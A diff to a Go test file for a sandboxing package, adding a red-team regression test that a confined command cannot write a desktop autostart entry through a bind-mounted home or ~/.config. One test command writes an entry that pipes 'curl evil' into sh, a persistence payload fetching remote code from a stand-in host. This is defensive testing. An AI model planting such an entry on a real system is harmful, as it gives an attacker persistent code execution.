@@ -4,6 +4,7 @@ package confine_test
 
 import (
 	"context"
+	"errors"
 	"os"
 	"path/filepath"
 	"runtime"
@@ -99,5 +100,50 @@ func TestRedteamRTB_UnrelatedBindMount(t *testing.T) {
 	}
 	if out, err := cmd.CombinedOutput(); err != nil || string(out) != "data" {
 		t.Errorf("err %v, output %q", err, out)
+	}
+}
+
+// The default writable directories were compared with the startup places
+// by their path, but a bind mount shows a directory at a second place: a
+// working directory /workspace that is the home itself (or ~/.config)
+// bound there was writable, and the command wrote an autostart entry
+// as workspace/.config/autostart/evil.desktop (red team rtb). Each place a writable directory
+// is shown at is now compared.
+func TestRedteamRTB_WritableBindOfHome(t *testing.T) {
+	requireLandlock(t)
+	privateMounts(t)
+	h := newHome(t)
+	t.Setenv("HOME", h.dir)
+	t.Setenv("TMPDIR", t.TempDir())
+	if err := os.MkdirAll(filepath.Join(h.dir, ".config", "autostart"), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range []struct{ src, autostart string }{
+		{h.dir, ".config/autostart"},
+		{filepath.Join(h.dir, ".config"), "autostart"},
+	} {
+		src := c.src
+		ws := bind(t, src, "workspace")
+		cmd, err := confine.Command(context.Background(), h.p, &confine.CommandOptions{Dir: ws}, "sh", "-c", "echo 'Exec=sh -c \"curl evil | sh\"' > "+c.autostart+"/evil.desktop")
+		if errors.Is(err, confine.ErrWritableHome) {
+			continue
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		out, err := cmd.CombinedOutput()
+		t.Errorf("Dir %s bound at %s: not refused (%v %q)", src, ws, err, out)
+	}
+	// Near miss: a project bound at /workspace is writable.
+	ws := bind(t, filepath.Join(h.dir, "work"), "workspace")
+	if err := os.Mkdir(filepath.Join(ws, "src"), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	cmd, err := confine.Command(context.Background(), h.p, &confine.CommandOptions{Dir: filepath.Join(ws, "src")}, "sh", "-c", "echo ok > f && cat f")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if out, err := cmd.CombinedOutput(); err != nil || string(out) != "ok\n" {
+		t.Errorf("a bound project: %v %q", err, out)
 	}
 }
